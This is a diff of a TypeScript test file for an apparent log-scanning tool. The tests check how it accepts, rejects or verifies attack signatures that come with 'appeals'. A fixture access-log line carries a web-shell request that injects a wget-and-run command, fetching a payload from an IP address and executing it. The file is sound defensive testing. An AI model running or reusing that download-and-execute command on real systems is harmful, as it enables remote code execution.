@@ -2,7 +2,13 @@ import { deepEqual, equal, match } from 'node:assert/strict'
 import { existsSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { test } from 'node:test'
-import { type Appeal, type Instant, type Signature, signatures } from '@redalert/core'
+import {
+  type Appeal,
+  type Instant,
+  type Signature,
+  signatures,
+  signaturesVersion,
+} from '@redalert/core'
 import { anyAppeal, type AnyKey, anyKey } from '../answer/any-appeal.ts'
 import { type AnyCollector, anyCollector } from '../submit/any-collector.ts'
 import { besides } from './besides.ts'
@@ -171,16 +177,18 @@ test('an appeal that came as a file is answered when its key is named, or known'
   equal((await besides(words, { folder })).code, 0)
 })
 
-test('a family that an appeal brings is looked for where the logs are', async () => {
-  const jaws = signatures.find(({ id }) => id === 'jaws')!
-  const text = JSON.stringify({ ...jaws, id: 'claws', name: 'Claws' })
+const jaws = signatures.find(({ id }) => id === 'jaws')!
+const claws = JSON.parse(
+  JSON.stringify({ ...jaws, id: 'claws', name: 'Claws' })
     .replaceAll('jaws-', 'claws-')
     .replaceAll('"/shell"', '"/clawshell"')
-    .replaceAll(/(GET|POST|HEAD) \/shell/g, '$1 /clawshell')
-  const family = JSON.parse(text) as Signature
-  const collector = await appealing({ families: [], signatures: [family] })
-  const request = 'GET /clawshell?cd+/tmp;wget+http://192.88.1.7/m;sh+m HTTP/1.1'
-  const folder = folderOf({ 'access.log': line('192.88.1.7', request) + visitor })
+    .replaceAll(/(GET|POST|HEAD) \/shell/g, '$1 /clawshell'),
+) as Signature
+const clawsLog = line('192.88.1.7', 'GET /clawshell?cd+/tmp;wget+http://192.88.1.7/m;sh+m HTTP/1.1')
+
+test('a family that an appeal brings is looked for where the logs are', async () => {
+  const collector = await appealing({ families: [], signatures: [claws] })
+  const folder = folderOf({ 'access.log': clawsLog + visitor })
   const ran = await besides(['answer', '--yes', collector.page, 'access.log'], { folder })
   equal(ran.code, 0, ran.told)
   match(ran.told, /Claws is new to this program: the appeal brought it/)
@@ -189,6 +197,39 @@ test('a family that an appeal brings is looked for where the logs are', async ()
     submission!.cells.map(({ mark }) => mark),
     ['claws-run'],
   )
+  const [coverage] = submission!.coverage
+  match(coverage!.signatures, new RegExp(`^${signaturesVersion}\\+[0-9a-f]{8}$`))
+})
+
+const [someMark = '', rule] = Object.entries(claws.marks)[0] ?? []
+const loose = {
+  ...claws,
+  marks: { ...claws.marks, [someMark]: { ...rule!, when: { path: { startsWith: '/' } } } },
+} as Signature
+for (const [what, family, note] of [
+  ['accuses everybody', loose, /family 1 of the appeal does not convince/],
+  ['is no family', { id: 'claws' } as Signature, /family 1 of the appeal does not convince/],
+  ['says anew what one is that is known', jaws, /says what jaws is: this program knows better/],
+] as const) {
+  test(`a family of an appeal that ${what} is not looked for`, async () => {
+    const collector = await appealing({ families: [], signatures: [family] })
+    const folder = folderOf({ 'access.log': clawsLog + visitor })
+    const ran = await besides(['answer', '--yes', collector.page, 'access.log'], { folder })
+    match(ran.told, note)
+    match(ran.told, /asks for nothing that this program can look for/)
+    deepEqual([ran.code, collector.kept.size], [2, 0])
+  })
+}
+
+test('a family that is altered on its way makes the whole appeal none', async () => {
+  const collector = await appealing({ families: ['codered-n'], signatures: [claws] })
+  const text = collector.pages.get('/appeals/july.json')!
+  collector.pages.set('/appeals/july.json', text.replaceAll('/clawshell', '/'))
+  const ran = await besides(['answer', '--yes', collector.page, 'access.log'], {
+    folder: machine(),
+  })
+  match(ran.told, /its signature does not hold/)
+  deepEqual([ran.code, collector.kept.size], [2, 0])
 })
 
 for (const [word, sentence] of [
